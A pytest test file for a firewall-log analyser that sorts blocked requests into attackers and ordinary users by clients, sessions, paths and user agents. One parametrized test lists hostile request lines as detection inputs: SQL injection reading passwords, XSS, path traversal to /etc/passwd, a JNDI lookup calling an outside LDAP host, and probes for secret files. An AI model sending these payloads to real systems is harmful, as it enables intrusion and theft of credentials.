"""Who was refused: counts and shares, and what tells attackers from users."""

from datetime import UTC, datetime, timedelta

import pytest

from diagnosis.crowd import Crowd, attacks, crowd_of
from diagnosis.systems.firewall import BUCKET, SAMPLE, BlockedRequest, BlockedRequests

START = datetime(2026, 11, 20, 14, 40, tzinfo=UTC)


def request(
    uri: str = "/orders",
    client: str = "198.51.100.1",
    *,
    country: str = "DE",
    agent: str | None = None,
    signed_in: bool = False,
    weight: float = 1.0,
) -> BlockedRequest:
    return BlockedRequest("rule", None, START, client, country, "GET", uri, agent, signed_in, weight)


def crowd(
    *found: BlockedRequest, source: str = SAMPLE, complete: bool = False, of: float | None = None
) -> Crowd:
    read = BlockedRequests(source, START, START + timedelta(minutes=5), found, complete, 5000)
    made = crowd_of(read, found, len(found) if of is None else of)
    assert made is not None
    return made


def several(count: int, uri: str = "/orders", *, signed_in: bool = False) -> list[BlockedRequest]:
    return [
        request(uri, f"198.51.100.{number}", country=("DE", "FR")[number % 2], signed_in=signed_in)
        for number in range(count)
    ]


def test_nobody_makes_no_crowd() -> None:
    assert crowd_of(BlockedRequests(SAMPLE, START, START, (), complete=True), (), 0) is None


def test_clients_countries_and_paths_are_counted_without_the_query() -> None:
    found = crowd(
        *several(30, "/orders?id=1"), *several(30, "/orders?id=2"), request("/stock", "203.0.113.5")
    )
    assert (found.clients, len(found.countries), found.paths) == (31, 2, 2)
    assert found.top_path == "/orders"


def test_shares_are_by_what_each_sampled_request_stands_for() -> None:
    found = crowd(request("/a", "198.51.100.1", weight=9.0), request("/b", "198.51.100.2", weight=1.0))
    assert found.busiest_client == pytest.approx(0.9)


@pytest.mark.parametrize(
    "uri",
    [
        "/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users",
        "/search?q=%2527%2520OR%25201%253D1",
        "/page?name=%3Cscript%3Ealert(1)%3C/script%3E",
        "/../../../etc/passwd",
        "/%2e%2e/%2e%2e/etc/passwd",
        "/?x=${jndi:ldap://203.0.113.9/a}",
        "/.env",
        "/.git/config",
        "/cgi-bin/test.cgi",
        "/actuator/env",
        "/backup.sql",
    ],
)
def test_an_attack_is_told_by_its_request_line_however_it_is_written(uri: str) -> None:
    assert attacks(request(uri))


@pytest.mark.parametrize(
    "uri",
    [
        "/",
        "/orders/4711?page=2&sort=desc",
        "/search?q=select+a+union+member",
        "/search?q=it%27s+or+isn%27t",
        "/collier-d'or/5",
        "/environment",
        "/wp-content/uploads/2026/logo.png",
        "/static/app.js?v=1.2.3",
        "/comments/preview",
    ],
)
def test_ordinary_pages_are_no_attacks(uri: str) -> None:
    assert not attacks(request(uri))


def test_a_scanner_that_says_its_name_is_one() -> None:
    assert attacks(request(agent="sqlmap/1.8#stable (https://sqlmap.org)"))
    assert not attacks(request(agent="Mozilla/5.0 (Windows NT 10.0; Win64; x64)"))


def test_a_handful_of_requests_tells_nothing() -> None:
    found = crowd(*several(3, "/.env"))
    assert not any((found.telling, found.hostile, found.few, found.customers, found.of_one_mind))


def test_many_users_on_many_pages_are_many_and_harmless() -> None:
    found = crowd(*several(60), *several(60, "/stock"))
    assert found.many
    assert found.harmless
    assert not any((found.hostile, found.few, found.of_one_mind))


def test_customers_behind_one_address_are_told_by_their_sessions() -> None:
    found = crowd(*(request(f"/page/{number}", signed_in=True) for number in range(40)))
    assert found.few
    assert found.customers


def test_signed_in_attackers_are_no_customers() -> None:
    assert not crowd(*several(40, "/.env", signed_in=True)).customers


def test_those_who_all_want_one_page_without_a_session_are_of_one_mind() -> None:
    assert crowd(*several(200, "/login")).of_one_mind
    assert not crowd(*several(200, "/comments", signed_in=True)).of_one_mind


def test_a_sample_says_that_it_is_one_and_of_how_many() -> None:
    told = crowd(*several(40), of=610).told
    assert "40 clients from 2 countries on 1 path" in told
    assert "a sample of 40 of 610 blocked, from the first 5,000 requests of 14:40 to 14:45" in told


def test_what_was_read_whole_names_its_source() -> None:
    assert (
        "(40 of 40 blocked, read from S3, 14:40 to 14:45)"
        in crowd(*several(40), source=BUCKET, complete=True).told
    )


def test_one_country_is_named() -> None:
    found = crowd(*(request(client=f"198.51.100.{number}") for number in range(9)))
    assert "9 clients from DE on" in found.told


def test_requests_of_unknown_countries_are_told_of_as_well() -> None:
    found = crowd(*(request(client=f"198.51.100.{number}", country="") for number in range(9)))
    assert "9 clients from 0 countries" in found.told
